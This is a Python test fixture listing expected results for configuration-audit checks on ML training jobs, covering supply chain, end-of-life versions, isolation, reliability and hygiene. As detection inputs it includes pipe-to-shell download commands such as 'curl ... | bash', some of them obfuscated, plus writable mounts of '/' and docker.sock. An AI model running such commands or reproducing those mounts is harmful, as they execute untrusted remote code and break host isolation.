"""For every check: what it finds, what it lets pass, and what it cannot assess."""

from __future__ import annotations

from collections.abc import Mapping
from typing import Literal

from tests.dashboard.audit.assessed import NOW_MS

Answer = Literal["failed", "passed", "not assessed"]
Row = tuple[str, Answer, Mapping[str, object], str]
"""Check, answer, record, and what the message or reason says; of a failure the severity and a bar first."""

IMAGE = "swr.cn-north-4.myhuaweicloud.com/vision/resnet:1.0"
PINNED = f"{IMAGE}@sha256:{'ab' * 32}"
RUN = "bash /home/work/run_train.sh python train.py"
BROKEN = "bash -c 'python train.py"
DAY_MS = 86_400_000


def _command(text: object) -> dict[str, object]:
    return {"user_command": text, "user_image_url": IMAGE}


def _image(text: object) -> dict[str, object]:
    return {"user_image_url": text}


def _engine(text: object) -> dict[str, object]:
    return {"engine_version": text}


def _host(source: object, **more: object) -> dict[str, object]:
    return {"volumes": [{"host_path": {"src_path": source, "dest_path": "/x", **more}}]}


def _nfs(source: object, **more: object) -> dict[str, object]:
    return {"volumes": [{"nfs": {"src_path": source, "dest_path": "/x", **more}}]}


ROWS: tuple[Row, ...] = (
    ("SEC003", "failed", _command(f"set -x; {RUN}"), "high|“-x” prints"),
    ("SEC003", "failed", _command("bash -ex start.sh"), "medium|“-ex”"),
    ("SEC003", "passed", _command(RUN), ""),
    ("SEC003", "not assessed", _command(BROKEN), "syntax"),
    ("SUP001", "failed", _command("curl -s https://x.example/a.sh | bash"), "high|curl -s"),
    ("SUP001", "failed", _command('bash -c "$(wget -qO- https://x.io/a)"'), "runs what it downloads"),
    ("SUP001", "failed", _command("c'ur'l https://x.example/a.sh | sh"), "runs what it downloads"),
    ("SUP001", "passed", _command("curl -s https://x.example/a.sh -o a.sh"), ""),
    ("SUP001", "not assessed", _command(7), "user_command is no text"),
    ("SUP002", "failed", _command("wget http://x.example/d.tgz"), "medium|http://x.example/d.tgz"),
    ("SUP002", "passed", _command("wget https://x.example/d.tgz"), ""),
    ("SUP002", "not assessed", _command(BROKEN), "syntax"),
    ("SUP003", "failed", _image("100.125.5.235:20202/jobmng/base"), "medium|has no tag"),
    ("SUP003", "failed", _image("repo/base:latest"), "tagged “latest”"),
    ("SUP003", "passed", _image("100.125.5.235:20202/jobmng/base:1.0"), ""),
    ("SUP003", "not assessed", _image("not an image"), "no image reference"),
    ("SUP004", "failed", _image(IMAGE), "low|has no digest"),
    ("SUP004", "passed", _image(PINNED), ""),
    ("SUP004", "not assessed", _image("r.example/UPPER"), "no image reference"),
    ("SUP005", "failed", _image("100.125.5.235:20202/jobmng/base:1.0"), "medium|a bare IP address"),
    ("SUP005", "passed", _image(IMAGE), ""),
    ("SUP005", "not assessed", _image(["x"]), "user_image_url is no text"),
    ("SUP006", "failed", _command("pip install torch==1.8.1 timm"), "low|“timm”"),
    ("SUP006", "failed", _command("apt-get install -y git"), "“git”"),
    ("SUP006", "failed", _command("p'i'p install timm"), "“timm”"),
    ("SUP006", "failed", _command(r"$'\x70ip' install timm"), "“timm”"),
    ("SUP006", "passed", _command("pip install torch==1.8.1"), ""),
    ("SUP006", "not assessed", _command(BROKEN), "syntax"),
    ("EOL001", "failed", _engine("TF-1.8.0-python2.7"), "high|Python 2.7 ended on 2020-01-01 (official"),
    ("EOL001", "failed", _engine("TF-1.8.0-python3.6"), "medium|Python 3.6"),
    ("EOL001", "passed", _engine("PyTorch-1.8.0-python3.12"), ""),
    ("EOL001", "not assessed", _engine("pytorch_1.8.0-cuda_10.2-ubuntu_18.04-x86_64"), "names no Python"),
    ("EOL001", "not assessed", _engine(None), "no engine version"),
    ("EOL002", "failed", _engine("TF-1.13.1-python3.6-v2"), "high|TensorFlow 1.x ended on 2021-01-06"),
    ("EOL002", "failed", _engine("PyTorch-1.0.0-python3.6"), "medium|derived"),
    ("EOL002", "failed", _engine("MindSpore-1.3-cann_5.0.2-python3.7-euleros2.8-aarch64"), "high|policy"),
    ("EOL002", "not assessed", _engine("Scikit_Learn-0.18.1-python3.6"), "no end date is known"),
    ("EOL002", "not assessed", _engine("our own engine"), "cannot be read"),
    ("EOL003", "failed", _image("r.example/a/tf-ubuntu1604:1"), "medium|Ubuntu 16.04"),
    ("EOL003", "failed", _image("r.example/a/pt:torch_npu1.8"), "torch_npu 1.8"),
    ("EOL003", "passed", _image("r.example/a/tf-ubuntu2404:1"), ""),
    ("EOL003", "passed", _image(None), ""),
    ("EOL003", "not assessed", _image("r.example/a/tf:1"), "says no system"),
    ("EOL003", "not assessed", _image("r.example/a/tf:cuda11.1"), "no end date is known for CUDA 11.1"),
    ("EOL004", "failed", _engine("TF-1.8.0-python2.7"), "high|does not list “TF-1.8.0-python2.7”"),
    ("EOL004", "failed", {"engine_name": "PyTorch", **_engine("TF-2.1.0-python3.6")}, "does not list"),
    ("EOL004", "passed", {"engine_name": "TensorFlow", **_engine("TF-2.1.0-python3.6")}, ""),
    ("EOL004", "not assessed", _engine(""), "no engine version"),
    ("REL001", "failed", _command("python train.py"), "medium|“python train.py” starts without it"),
    ("REL001", "passed", _command(RUN), ""),
    ("REL001", "not assessed", _command("$START"), "known only when it runs"),
    ("REL002", "failed", _image(IMAGE), "medium|has no start command"),
    ("REL002", "failed", {"user_command": RUN}, "has no image"),
    ("REL002", "passed", {**_command(RUN), **_image(IMAGE)}, ""),
    ("REL002", "not assessed", {"user_command": 1}, "no text"),
    ("REL003", "failed", {"app_url": "/b/code/", "boot_file_url": "/b/code2/a.py"}, "high|is not inside"),
    ("REL003", "passed", {"app_url": "s3://b/code", "boot_file_url": "/b/code/a.py"}, ""),
    ("REL003", "not assessed", {"boot_file_url": "/b/a.py"}, "no code directory"),
    ("REL004", "failed", {"train_url": "/b/data/out", "data_url": "obs://b/data/"}, "high|the data in"),
    ("REL004", "failed", {"train_url": "/b/code", "app_url": "/b/code/"}, "the code in"),
    ("REL004", "passed", {"train_url": "/b/database", "data_url": "/b/data"}, ""),
    ("REL004", "not assessed", {"data_url": "/b/data"}, "no output path"),
    ("REL006", "failed", {"log_url": " "}, "medium|no log path"),
    ("REL006", "passed", {"log_url": "/b/log/"}, ""),
    ("REL006", "not assessed", {"log_url": {}}, "no text"),
    ("REP001", "failed", {"dataset_id": "d1"}, "medium|“d1”"),
    ("REP001", "failed", {"data_source": [{"type": "dataset", "dataset_id": "d2"}]}, "“d2”"),
    ("REP001", "passed", {"dataset_id": "d1", "dataset_version_id": "v1"}, ""),
    ("REP001", "not assessed", {"data_source": "d1"}, "no array of objects"),
    ("REP002", "failed", {"worker_server_num": 4}, "info|4 workers"),
    ("REP002", "passed", {"worker_server_num": "4", "parameter": [{"label": "dist_url", "value": 1}]}, ""),
    ("REP002", "passed", {"worker_server_num": 4, "user_command": "torchrun a.py"}, ""),
    ("REP002", "passed", {"worker_server_num": 1}, ""),
    ("REP002", "not assessed", {"worker_server_num": True}, "no whole number"),
    ("ISO001", "failed", _host("/data/cache"), "high|“/data/cache” writable"),
    ("ISO001", "failed", _host("/"), "critical|“/” writable"),
    ("ISO001", "failed", _host("/var/run/docker.sock", read_only=False), "critical|"),
    ("ISO001", "failed", _host("/root/work"), "critical|"),
    ("ISO001", "failed", _host("/etc", read_only=True), "medium|read-only"),
    ("ISO001", "passed", _nfs("10.0.0.1:/a"), ""),
    ("ISO001", "not assessed", _host(None), "no src_path"),
    ("ISO002", "failed", _nfs("10.0.0.1:/team"), "medium|“10.0.0.1:/team” is writable"),
    ("ISO002", "failed", _nfs("10.0.0.1:/", read_only=True), "is the root"),
    ("ISO002", "failed", {"nas_share_addr": "10.0.0.1:/"}, "is the root"),
    ("ISO002", "passed", _nfs("10.0.0.1:/team", read_only=True), ""),
    ("ISO002", "not assessed", _nfs("10.0.0.1:/team", read_only="perhaps"), "neither true nor false"),
    ("COST001", "failed", {**_image("r.io/cpu-base:1"), "gpu_num": 8, "gpu_type": "V100"}, "medium|8 × V100"),
    ("COST001", "passed", {**_image("r.example/a/cpu-base:1"), "gpu_num": 0}, ""),
    ("COST001", "passed", {**_image("r.example/a/gpu-base:1"), "gpu_num": 8}, ""),
    ("COST001", "not assessed", _image("r.example/a/cpu-base:1"), "not known whether"),
    ("HYG001", "failed", {"config_desc": ""}, "low|no description"),
    ("HYG001", "passed", {"config_desc": "Trains ResNet"}, ""),
    ("HYG001", "not assessed", {"config_desc": 5}, "no text"),
    ("HYG002", "failed", {"config_name": "res net"}, "low|does not match"),
    ("HYG002", "failed", {"config_name": "resnet-copy2"}, "says “copy”"),
    ("HYG002", "failed", {"config_name": "TMP_resnet"}, "says “tmp”"),
    ("HYG002", "passed", {"config_name": "latest-resnet"}, ""),
    ("HYG002", "not assessed", {"config_name": 4}, "no text"),
    ("HYG004", "failed", {"create_time": NOW_MS - 366 * DAY_MS}, "low|Age is not last use"),
    ("HYG004", "passed", {"create_time": NOW_MS - 364 * DAY_MS}, ""),
    ("HYG004", "not assessed", {"create_time": 0}, "no creation time"),
    ("HYG005", "failed", {}, "info|no creation time"),
    ("HYG005", "failed", {"create_time": 0}, "is 0"),
    ("HYG005", "failed", {"create_time": NOW_MS + 1}, "in the future"),
    ("HYG005", "failed", {"create_time": NOW_MS // 1000}, "in seconds"),
    ("HYG005", "passed", {"create_time": NOW_MS}, ""),
    ("HYG005", "not assessed", {"create_time": "yesterday"}, "no whole number"),
)  # fmt: skip
